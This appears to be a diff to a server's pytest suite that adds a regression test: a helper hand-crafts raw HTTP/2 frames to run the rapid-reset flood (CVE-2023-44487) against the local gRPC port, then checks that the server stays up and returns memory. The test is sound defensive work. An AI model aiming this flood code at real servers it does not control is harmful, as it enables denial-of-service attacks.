@@ -2,7 +2,8 @@
 sockets must not take the port down for good, sockets that never speak and
 connections that stay idle are closed, and when gRPC's listener does fail the
 server says so and exits with status 1 (for a supervisor to restart it)
-instead of living on unable to take a connection.
+instead of living on unable to take a connection. And (item 7) the memory a
+flood of opened-and-reset streams took is given back to the kernel.
 
 The descriptor limits are set in the server's process alone (preexec_fn), so
 the test's own sockets are bound only by the test's limit.
@@ -11,6 +12,7 @@ the test's own sockets are bound only by the test's limit.
 import resource
 import socket
 import struct
+import threading
 import time
 
 import pytest
@@ -141,3 +143,78 @@ def test_an_idle_connection_gets_a_goaway(start_server):
     finally:
         sock.close()
     assert 0x7 in types, f"no GOAWAY within 10 s; frame types seen: {types}"
+
+
+def reset_flood(port, streams):
+    """The HTTP/2 rapid-reset pattern (CVE-2023-44487) on one connection:
+    HEADERS of a ModelInfer call, then RST_STREAM(CANCEL), on `streams` new
+    streams, written as fast as the server reads them while another thread
+    drains what it sends."""
+    def frame(kind, flags, stream, payload):
+        return (struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) +
+                struct.pack(">I", stream) + payload)
+
+    def literal(name, value):  # HPACK literal without indexing, no Huffman
+        return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value
+
+    block = b"".join(literal(n, v) for n, v in [
+        (b":method", b"POST"), (b":scheme", b"http"),
+        (b":path", b"/inference.GRPCInferenceService/ModelInfer"),
+        (b":authority", b"127.0.0.1"), (b"content-type", b"application/grpc"),
+        (b"te", b"trailers")])
+    flood = bytearray(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(0x4, 0, 0, b""))
+    for i in range(streams):
+        stream = 2 * i + 1
+        flood += frame(0x1, 0x4, stream, block)  # HEADERS, END_HEADERS
+        flood += frame(0x3, 0, stream, struct.pack(">I", 0x8))  # RST_STREAM, CANCEL
+    sock = socket.create_connection(("127.0.0.1", port), timeout=60)
+
+    def drain():
+        try:
+            while sock.recv(1 << 20):
+                pass
+        except OSError:
+            pass
+
+    reader = threading.Thread(target=drain, daemon=True)
+    reader.start()
+    try:
+        sock.sendall(flood)
+    finally:
+        sock.shutdown(socket.SHUT_WR)
+        reader.join(timeout=30)
+        sock.close()
+
+
+def resident_mib(pid):
+    with open(f"/proc/{pid}/status") as status:
+        for line in status:
+            if line.startswith("VmRSS:"):
+                return int(line.split()[1]) / 1024
+    raise AssertionError("no VmRSS")
+
+
+def test_the_memory_of_a_reset_stream_flood_is_given_back(start_server):
+    """gRPC 1.51 holds ~10 KB of call arena per reset stream until its executor
+    catches up (40 000 streams: 0.4 GB, heaptrack), then frees it, and glibc
+    kept it all resident (6 GB after 300 000 streams). The server stays live
+    through the flood, and its memory trimmer gives the heap back."""
+    server = start_server()
+    assert live(server)
+    before = resident_mib(server.proc.pid)
+    reset_flood(server.grpc_port, 50_000)
+    peak = resident_mib(server.proc.pid)
+    assert live(server), "the server stopped answering after the flood"
+    # The flood must have been felt for the rest to mean anything.
+    assert peak > before + 200, f"RSS {before:.0f} -> {peak:.0f} MiB: the flood did not take memory"
+    deadline = time.monotonic() + 40
+    now = peak
+    while time.monotonic() < deadline:
+        now = resident_mib(server.proc.pid)
+        if now < before + 128:
+            break
+        time.sleep(0.5)
+    print(f"RSS {before:.0f} MiB before the flood, {peak:.0f} MiB after it, {now:.0f} MiB at the end")
+    assert now < before + 128, (
+        f"RSS {now:.0f} MiB, {before:.0f} MiB before a flood of 50 000 reset streams "
+        f"({peak:.0f} MiB right after it): the freed memory stayed resident")
